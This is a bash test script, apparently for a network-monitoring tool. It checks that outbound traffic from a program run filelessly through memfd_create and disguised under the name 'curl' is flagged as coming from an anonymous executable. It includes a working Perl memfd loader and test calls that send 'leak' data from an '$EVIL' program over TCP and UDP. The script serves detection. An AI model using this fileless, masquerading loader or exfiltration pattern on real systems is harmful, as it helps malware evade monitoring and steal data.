# SPDX-License-Identifier: GPL-2.0-or-later
# shellcheck shell=bash source=/dev/null disable=SC2086,SC2016,SC2154,SC2034
# L12: a program that has no file, only a memory descriptor that is called /usr/bin/curl.
. /snitch/leak/lib/leak.sh

leak_begin
cat >$DIR/memfd.pl <<-'END'
	my ($name, $file, @args) = @ARGV;
	my $fd = syscall(319, $name, 0);	# memfd_create
	open(my $out, ">&=", $fd) or die;
	open(my $in, "<", $file) or die;
	binmode $_ for $out, $in;
	local $/;
	print $out scalar <$in>;
	$out->flush;
	$^F = 255;
	exec { "/proc/self/fd/$fd" } $name, @args;
	die "exec: $!";
END
for name in curl /usr/bin/curl; do
	way "a memfd named $name" '[^ ]*' tcp 80 perl $DIR/memfd.pl $name $EVIL tcp $F4 80 --data leak
	t_seen "$name: it is told as an anonymous executable" "^OWNER .*flags=0x[0-9a-f]*[2367abef] .*memfd:"
done
way "UDP" '[^ ]*' udp 80 perl $DIR/memfd.pl $CURL $EVIL udp $F4 80 --size 100
leak_done
